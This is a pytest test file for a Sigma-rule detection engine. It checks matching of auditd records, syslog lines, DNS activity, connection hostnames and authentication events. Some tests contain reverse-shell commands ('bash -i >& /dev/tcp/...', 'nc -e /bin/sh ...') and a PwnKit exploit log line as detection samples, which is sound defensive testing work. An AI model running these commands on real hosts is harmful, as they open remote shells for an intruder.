"""The detection sensors' kinds in the Sigma engine: audit events matched record by record, log lines
routed to Sigma's services by program and file, keywords on the message, DNS queries and responses,
DestinationHostname on a connection. Each test names the failure it would catch."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest
from tests.engines.conftest import FakeClock, FakeContext
from tests.engines.sigma.build import connect, exec_event, header, proc, rule, write_rules
from tests.engines.sigma.corpus import SIGMAHQ

from ringfence.engines.sigma import Logsource, SigmaEngine, load_directory, logsources_of, mapping_table
from ringfence.sdk import (
    AccountChange,
    AccountChangeActivityId,
    AuditEvent,
    AuditRecord,
    Authentication,
    AuthenticationActivityId,
    DnsActivity,
    DnsActivityId,
    DnsAnswer,
    DnsQuery,
    Endpoint,
    EventKind,
    LogEvent,
    NetworkActivity,
)

AUDIT_ID = "a0d10000-0000-4000-8000-000000000001"


def service_rule(detection: str, service: str, rule_id: str = AUDIT_ID) -> str:
    return rule(detection, rule_id=rule_id).replace("category: process_creation", f"service: {service}")


def builtin_rule(detection: str) -> str:
    return rule(detection).replace("    category: process_creation\n", "")


def audit(*records: AuditRecord) -> AuditEvent:
    return AuditEvent(header=header(), serial=7, time_ns=1, records=records, process=proc("/usr/bin/vim"))


def syscall(name: str, **fields: str) -> AuditRecord:
    return AuditRecord(type="SYSCALL", fields={"syscall": "2", "SYSCALL": name, "arch": "c000003e", **fields})


def log(message: str, program: str | None = "sshd", source: str = "/var/log/syslog") -> LogEvent:
    return LogEvent(header=header(), source=source, message=message, program=program)


def inline(background: Callable[[], None]) -> None:
    background()


@pytest.fixture
def start(make_ctx, clock: FakeClock, tmp_path: Path) -> Callable[..., tuple[SigmaEngine, FakeContext]]:
    def go(**files: str) -> tuple[SigmaEngine, FakeContext]:
        ctx = make_ctx(settings={}, content_dir=str(write_rules(tmp_path / "c", **files)))
        engine = SigmaEngine(clock=clock, background=inline)
        engine.setup(ctx)
        assert not engine.rules.errors, engine.rules.errors
        return engine, ctx

    return go


def test_the_manifest_subscribes_to_audit_dns_and_log_events() -> None:
    assert {EventKind.AUDIT, EventKind.DNS, EventKind.LOG} <= SigmaEngine.manifest.subscribes


def test_an_auditd_rule_matches_the_path_record_of_a_watched_write(start) -> None:
    text = service_rule("sel:\n  type: PATH\n  name: /etc/ld.so.preload\ncondition: sel", "auditd")
    engine, ctx = start(**{"a.yml": text})
    write = audit(
        syscall("openat", exe="/usr/bin/vim", key="ringfence:preload"),
        AuditRecord(type="CWD", fields={"cwd": "/etc"}),
        AuditRecord(type="PATH", fields={"item": "0", "name": "/etc/", "nametype": "PARENT"}),
        AuditRecord(type="PATH", fields={"item": "1", "name": "/etc/ld.so.preload", "nametype": "CREATE"}),
    )
    engine.on_event(audit(syscall("openat"), AuditRecord(type="PATH", fields={"name": "/etc/hosts"})))
    assert not ctx.findings
    engine.on_event(write)
    (finding,) = ctx.findings
    assert finding.fields["rule"] == AUDIT_ID and finding.fields["related_event"] == write.header.id
    assert finding.fields["process"] == write.process
    assert finding.fields["file_path"] == "/etc/ld.so.preload"  # the PATH record that matched


def test_one_process_writing_two_watched_files_raises_a_finding_for_each(start) -> None:
    text = service_rule("sel:\n  type: PATH\n  name|startswith: /etc/cron.d/\ncondition: sel", "auditd")
    engine, ctx = start(**{"a.yml": text})
    for name in ("/etc/cron.d/a", "/etc/cron.d/b", "/etc/cron.d/a"):
        engine.on_event(audit(syscall("openat"), AuditRecord(type="PATH", fields={"name": name})))
    assert [f.fields["file_path"] for f in ctx.findings] == ["/etc/cron.d/a", "/etc/cron.d/b"]
    assert engine.statistics().findings_suppressed == 1  # the repeat of /etc/cron.d/a


def test_fields_of_two_different_records_do_not_make_one_match(start) -> None:
    """SigmaHQ's `type: PATH` with `exe` cannot hold: exe is a SYSCALL field. Merging an event's records
    into one set of fields would match it (and `type` would be ambiguous)."""
    text = service_rule("sel:\n  type: PATH\n  exe: /usr/bin/vim\ncondition: sel", "auditd")
    engine, ctx = start(**{"a.yml": text})
    engine.on_event(
        audit(syscall("openat", exe="/usr/bin/vim"), AuditRecord(type="PATH", fields={"name": "/x"}))
    )
    assert not ctx.findings


def test_a_rule_matching_several_records_of_one_event_raises_once(start) -> None:
    text = service_rule("sel:\n  type: PATH\n  name|startswith: /etc/cron\ncondition: sel", "auditd")
    engine, ctx = start(**{"a.yml": text})
    records = [AuditRecord(type="PATH", fields={"name": n}) for n in ("/etc/cron.d", "/etc/cron.d/job")]
    engine.on_event(audit(syscall("rename"), *records))
    assert len(ctx.findings) == 1
    assert engine.statistics().matches == 1


def test_syscall_is_the_number_and_SYSCALL_the_name(start) -> None:
    by_name = service_rule("sel:\n  SYSCALL: memfd_create\ncondition: sel", "auditd")
    by_number = service_rule("sel:\n  syscall: 319\ncondition: sel", "auditd", rule_id=AUDIT_ID[:-1] + "2")
    engine, ctx = start(**{"n.yml": by_name, "m.yml": by_number})
    engine.on_event(audit(AuditRecord(type="SYSCALL", fields={"syscall": "319", "SYSCALL": "memfd_create"})))
    assert {f.fields["rule"] for f in ctx.findings} == {AUDIT_ID, AUDIT_ID[:-1] + "2"}
    ctx.findings.clear()
    engine.on_event(audit(AuditRecord(type="SYSCALL", fields={"syscall": "memfd_create"})))
    assert not ctx.findings  # a name where the kernel writes a number is not the syscall's number


def test_execve_arguments_of_any_position_and_record_keywords_match(start) -> None:
    args = service_rule("sel:\n  type: EXECVE\n  a0: xclip\n  a5: '-o'\ncondition: sel", "auditd")
    words = service_rule(
        "sel:\n  type: EXECVE\nkeywords:\n  '|all':\n    - grep\n    - password\ncondition: sel and keywords",
        "auditd",
        rule_id=AUDIT_ID[:-1] + "3",
    )
    engine, ctx = start(**{"a.yml": args, "k.yml": words})
    argv = ("xclip", "-selection", "clipboard", "-t", "image/png", "-o")
    engine.on_event(audit(AuditRecord(type="EXECVE", fields={f"a{i}": a for i, a in enumerate(argv)})))
    engine.on_event(audit(AuditRecord(type="EXECVE", fields={"a0": "grep", "a1": "-ri", "a2": "PASSWORD"})))
    engine.on_event(audit(AuditRecord(type="PROCTITLE", fields={"proctitle": "grep -ri password"})))
    assert [f.fields["rule"] for f in ctx.findings] == [AUDIT_ID, AUDIT_ID[:-1] + "3"]


def test_an_audit_event_without_records_or_with_odd_fields_raises_nothing(start) -> None:
    text = service_rule("sel:\n  type: SYSCALL\n  a0|gt: 3\ncondition: sel", "auditd")
    engine, ctx = start(**{"a.yml": text})
    engine.on_event(audit())
    engine.on_event(audit(AuditRecord(type="SYSCALL", fields={"a0": "\\xff not a number", "": ""})))
    engine.on_event(audit(AuditRecord(type="UNKNOWN[1999]")))
    assert not ctx.findings
    engine.on_event(audit(AuditRecord(type="SYSCALL", fields={"a0": "4"})))
    assert len(ctx.findings) == 1


def test_a_keyword_rule_for_any_log_matches_the_message_of_any_line(start) -> None:
    engine, ctx = start(
        **{"b.yml": builtin_rule("keywords:\n  - 'bash -i >& /dev/tcp/'\ncondition: keywords")}
    )
    engine.on_event(log("Accepted publickey for alice"))
    engine.on_event(exec_event("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"))  # not a log line
    assert not ctx.findings
    engine.on_event(log("alice: bash -i >& /dev/tcp/10.0.0.1/9 0>&1", program=None, source="journal"))
    assert len(ctx.findings) == 1


def test_service_rules_see_only_their_programs_lines(start) -> None:
    sshd = service_rule("keywords:\n  - 'Corrupted MAC on input'\ncondition: keywords", "sshd")
    engine, ctx = start(**{"s.yml": sshd})
    engine.on_event(log("Corrupted MAC on input", program="sudo"))
    engine.on_event(log("Corrupted MAC on input", program="rsyslogd", source="/var/log/auth.log"))
    assert not ctx.findings
    engine.on_event(log("ssh_dispatch_run_fatal: Corrupted MAC on input.", program="sshd-session"))
    assert len(ctx.findings) == 1


def test_cron_lines_logged_as_CRON_belong_to_the_cron_service() -> None:
    sources = {str(s) for s in logsources_of(log("(root) REPLACE (root)", program="CRON"))}
    assert sources == {"builtin", "syslog", "cron"}


def test_auth_is_the_auth_log_file_or_an_auth_programs_line() -> None:
    assert "auth" in {str(s) for s in logsources_of(log("x", program="kernel", source="/var/log/secure"))}
    assert "auth" in {str(s) for s in logsources_of(log("x", program="pkexec", source="journal"))}
    assert "auth" not in {str(s) for s in logsources_of(log("x", program="kernel", source="/var/log/syslog"))}


def test_sudo_rules_read_USER_and_COMMAND_from_sudos_line(start) -> None:
    text = service_rule("sel:\n  USER:\n    - '#-*'\n    - '#*4294967295'\ncondition: sel", "sudo")
    engine, ctx = start(**{"s.yml": text})
    engine.on_event(log("alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id", "sudo"))
    engine.on_event(log("alice : USER=#-1 is what the attacker typed", "sshd"))  # not sudo's line
    assert not ctx.findings
    engine.on_event(log("alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id", "sudo"))
    assert len(ctx.findings) == 1


def test_identical_log_lines_fold_into_one_finding_but_different_lines_do_not(start) -> None:
    engine, ctx = start(
        **{"b.yml": builtin_rule("keywords:\n  - 'stack smashing detected'\ncondition: keywords")}
    )
    for _ in range(3):
        engine.on_event(log("*** stack smashing detected ***: terminated", program=None))
    engine.on_event(log("other: stack smashing detected in /usr/bin/x", program=None))
    assert len(ctx.findings) == 2


def dns(activity: DnsActivityId, name: str, answers: tuple[str, ...] = ()) -> DnsActivity:
    return DnsActivity(
        header=header(),
        activity=activity,
        query=DnsQuery(hostname=name, type="A"),
        answers=tuple(DnsAnswer(name=name, type="A", data=a) for a in answers),
        process=proc("/usr/bin/curl") if activity is DnsActivityId.QUERY else None,
    )


def test_dns_query_rules_match_the_query_and_dns_rules_the_answer(start) -> None:
    query_rule = rule("sel:\n  QueryName|endswith: .onion\ncondition: sel", category="dns_query")
    answer_rule = rule("sel:\n  answer: 127.0.0.1\n  query|contains: bank\ncondition: sel", category="dns")
    engine, ctx = start(**{"q.yml": query_rule, "a.yml": answer_rule})
    engine.on_event(dns(DnsActivityId.QUERY, "abcdefgh.onion"))
    (found,) = ctx.findings
    assert found.fields["process"].exe == "/usr/bin/curl"
    engine.on_event(dns(DnsActivityId.RESPONSE, "abcdefgh.onion", ("10.0.0.1",)))  # not a second query
    engine.on_event(dns(DnsActivityId.RESPONSE, "mybank.example", ("10.0.0.1",)))
    assert len(ctx.findings) == 1
    engine.on_event(dns(DnsActivityId.RESPONSE, "mybank.example", ("10.0.0.1", "127.0.0.1")))
    assert len(ctx.findings) == 2
    engine.on_event(DnsActivity(header=header(), activity=DnsActivityId.QUERY))  # no question: nothing
    assert len(ctx.findings) == 2


def test_destination_hostname_is_the_name_the_address_resolved_from(start) -> None:
    text = rule(
        "sel:\n  DestinationHostname|endswith: .ngrok.io\ncondition: sel", category="network_connection"
    )
    engine, ctx = start(**{"n.yml": text})
    plain = connect("203.0.113.9", 443)
    engine.on_event(plain)
    assert not ctx.findings
    named = NetworkActivity(**{
        **{f: getattr(plain, f) for f in plain.__struct_fields__},
        "header": header(),
        "remote": Endpoint(family="inet", ip="203.0.113.9", port=443, hostname="x1.tcp.ngrok.io"),
    })  # fmt: skip
    engine.on_event(named)
    assert len(ctx.findings) == 1


PWNKIT = SIGMAHQ / "rules-emerging-threats" / "2021" / "Exploits" / "CVE-2021-4034"


@pytest.mark.skipif(not PWNKIT.is_dir(), reason="../shared/data/sigmahq is not there")
def test_sigmahq_pwnkit_rule_finds_pkexec_named_only_in_the_syslog_tag(start) -> None:
    """The keyword `pkexec` is in the line's tag, not its message: a text of the message alone misses it."""
    (path,) = PWNKIT.glob("*.yml")
    engine, ctx = start(**{path.name: path.read_text()})
    message = (
        "alice: The value for environment variable XAUTHORITY contains suspicious content "
        "[USER=root] [TTY=/dev/pts/0] [CWD=/home/alice] [COMMAND=GCONV_PATH=./pwnkit.so:.]"
    )
    engine.on_event(log(message, program="sudo", source="/var/log/auth.log"))
    assert not ctx.findings
    engine.on_event(log(message, program="pkexec", source="/var/log/auth.log"))
    (finding,) = ctx.findings
    assert "T1548.001" in finding.fields["description"]


def test_a_timestamp_gives_no_keyword_a_colon(start) -> None:
    """Keywords search the program and message, not the whole line with its `hh:mm:ss`."""
    text = builtin_rule("tools:\n  - 'rsync '\nremote:\n  - ':'\ncondition: tools and remote")
    engine, ctx = start(**{"b.yml": text})
    line = LogEvent(
        header=header(),
        source="/var/log/syslog",
        program="backup",
        message="rsync finished",
        line="Dec  2 06:00:00 h backup[9]: rsync finished",
    )
    engine.on_event(line)
    assert not ctx.findings
    engine.on_event(log("rsync -a /srv backup:/srv", program="backup"))
    assert len(ctx.findings) == 1


def test_the_printed_mapping_names_every_new_source_and_its_keyword_text() -> None:
    rows = {(source, name): where for source, name, where in mapping_table()}
    assert rows[("network_connection", "DestinationHostname")].startswith("remote.hostname")
    assert ("auditd", "a<N>") in rows and ("auditd", "(keywords)") in rows
    assert {s for s, n in rows if n == "(keywords)"} >= {"builtin", "syslog", "auth", "sshd", "sudo", "cron"}
    assert rows[("dns_query", "QueryResults")].startswith("not supplied")


@pytest.mark.skipif(not SIGMAHQ.is_dir(), reason="../shared/data/sigmahq is not there")
def test_an_ordinary_syscall_record_makes_no_sigmahq_auditd_rule_a_candidate() -> None:
    """`type: SYSCALL` is in a dozen rules and in every SYSCALL record: as the trigger it would send each
    record through all of them (and their regexes). The rule's other, selective test triggers instead."""
    index = load_directory(str(SIGMAHQ / "rules" / "linux" / "auditd")).indexes[Logsource.AUDITD]
    fields = {"syscall": "257", "SYSCALL": "openat", "exe": "/usr/bin/vim", "comm": "vim", "a0": "3"}
    assert index.match(AuditRecord(type="SYSCALL", fields=fields)) == []
    assert index.evaluations == 0
    dropped = AuditRecord(type="SYSCALL", fields={**fields, "exe": "/home/bob/public_html/x"})  # a wildcard
    assert len(index.match(dropped)) == 1  # still found: lnx_auditd_susp_exe_folders


def test_a_finding_carries_the_attack_techniques_and_tactics_of_its_rule_tags(start) -> None:
    engine, ctx = start(**{"a.yml": rule("sel:\n  Image|endswith: /nc\ncondition: sel")})
    engine.on_event(exec_event("/usr/bin/nc", ("nc", "-e", "/bin/sh", "10.0.0.1", "4444")))
    (finding,) = ctx.findings
    assert finding.fields["techniques"] == ("T1059.004",)
    assert finding.fields["tactics"] == ("execution",)


def category_rule(detection: str, category: str, rule_id: str = AUDIT_ID) -> str:
    return rule(detection, rule_id=rule_id).replace("category: process_creation", f"category: {category}")


def test_the_manifest_subscribes_to_authentication_and_account_events() -> None:
    assert {EventKind.AUTHENTICATION, EventKind.ACCOUNT} <= SigmaEngine.manifest.subscribes


def test_authentication_rules_read_the_account_service_outcome_and_source(start) -> None:
    text = category_rule(
        "sel:\n  TargetUser: root\n  Service: sshd\n  Outcome: failure\n  Activity: logon\n"
        "  SourceIp|cidr: 203.0.113.0/24\n  Image|endswith: /sshd\ncondition: sel",
        "authentication",
    )
    engine, ctx = start(**{"a.yml": text})
    failed = Authentication(
        header=header(), activity=AuthenticationActivityId.LOGON, success=False, record_type="USER_AUTH",
        user="root", service="sshd", source=Endpoint(family="inet", ip="203.0.113.9"),
        process=proc("/usr/sbin/sshd"),
    )  # fmt: skip
    assert logsources_of(failed) == (Logsource.AUTHENTICATION,)
    engine.on_event(msgspec.structs.replace(failed, success=True))  # a success: Outcome differs
    engine.on_event(msgspec.structs.replace(failed, user="alice"))  # another account
    assert ctx.findings == []
    engine.on_event(failed)
    assert [f.fields["rule"] for f in ctx.findings] == [AUDIT_ID]


def test_account_change_rules_read_the_record_type_and_the_actor(start) -> None:
    text = category_rule(
        "sel:\n  RecordType: ADD_USER\n  Activity: create\n  TargetUserId|gte: 1000\n"
        "  Image|endswith: /mkacct\ncondition: sel",
        "account_change",
    )
    engine, ctx = start(**{"a.yml": text})
    added = AccountChange(
        header=header(), activity=AccountChangeActivityId.CREATE, success=True, record_type="ADD_USER",
        uid=1001, process=proc("/tmp/mkacct"),
    )  # fmt: skip
    assert logsources_of(added) == (Logsource.ACCOUNT_CHANGE,)
    engine.on_event(msgspec.structs.replace(added, uid=999))  # a system account's id
    engine.on_event(msgspec.structs.replace(added, record_type="DEL_USER"))
    assert ctx.findings == []
    engine.on_event(added)
    assert len(ctx.findings) == 1


def test_authentication_and_account_change_fields_are_in_the_mapping_and_the_schema() -> None:
    rows = {(source, name) for source, name, _ in mapping_table()}
    for name in ("TargetUser", "Service", "Outcome", "SourceIp", "Terminal", "Command", "Image"):
        assert ("authentication", name) in rows
    for name in ("TargetUser", "TargetUserId", "Group", "Activity", "RecordType", "ParentImage"):
        assert ("account_change", name) in rows


def test_an_unreadable_rule_subdirectory_is_an_error_not_an_empty_rule_set(shared_dir: Path) -> None:
    """Path.rglob skipped a directory it could not list: rules there were lost without a word."""
    from ringfence.engines.sigma._load import rule_files

    (shared_dir / "ok.yml").write_text("x")
    locked = shared_dir / "more"
    locked.mkdir()
    (locked / "a.yml").write_text("x")
    assert rule_files(str(shared_dir)) == ["more/a.yml", "ok.yml"]
    locked.chmod(0)
    try:
        pid = os.fork()  # as another user: root reads past the mode
        if pid == 0:
            code = 1
            try:
                os.setgid(65534)
                os.setuid(65534)
                rule_files(str(shared_dir))
            except PermissionError as e:
                code = 0 if e.filename == str(locked) else 2
            finally:
                os._exit(code)
        _, status = os.waitpid(pid, 0)
        assert os.waitstatus_to_exitcode(status) == 0
    finally:
        locked.chmod(0o755)
